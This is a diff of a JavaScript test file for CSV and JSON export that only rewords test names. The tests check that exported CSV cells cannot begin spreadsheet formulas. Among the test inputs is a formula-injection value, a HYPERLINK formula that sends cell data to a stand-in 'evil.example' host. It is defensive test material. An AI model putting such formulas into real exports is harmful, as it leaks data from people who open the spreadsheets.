@@ -13,7 +13,7 @@ const word = collectRecord('serendipity', {
   spec: { term: 'serendipity', language: 'LANGUAGE_ENGLISH', tags: ['a', 'b'], notes: ['n'] },
 });
 
-it('gives JSON that reads back as it was', () => {
+it('writes JSON that parses to the same words', () => {
   expect(JSON.parse(wordsAsJson([word, collectRecord('bare')]))).toEqual([
     {
       ...{ term: 'serendipity', language: 'LANGUAGE_ENGLISH', tags: ['a', 'b'], notes: ['n'] },
@@ -28,7 +28,7 @@ it('gives JSON that reads back as it was', () => {
   ]);
 });
 
-it('gives CSV in which quotes, commas and line ends stay inside their cell', () => {
+it('writes CSV that keeps quotes, commas and line ends inside their cell', () => {
   expect(wordsAsCsv([word])).toBe(
     '\uFEFF"term","language","tags","notes","sentence","title","address","collected_at"\r\n' +
       '"serendipity","LANGUAGE_ENGLISH","a\nb","n","It was “pure”, serendipity.",' +
@@ -37,14 +37,14 @@ it('gives CSV in which quotes, commas and line ends stay inside their cell', () 
 });
 
 it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00A0=1', '＝1'])(
-  'S26 a cell of a spreadsheet never begins a formula: %j',
+  'S26 no cell of the CSV begins a formula: %j',
   (term) => {
     const [, row = ''] = wordsAsCsv([collectRecord(term)]).split('\r\n"');
     expect(row.startsWith(`'${term}`)).toBe(true);
   },
 );
 
-it('S26 in no column of a spreadsheet does a text from a page begin a formula', () => {
+it('S26 no column of the CSV lets a text from a page begin a formula', () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
   const hostile = collectRecord(formula, {
     spec: { term: formula, language: formula, tags: [formula], notes: [formula] },
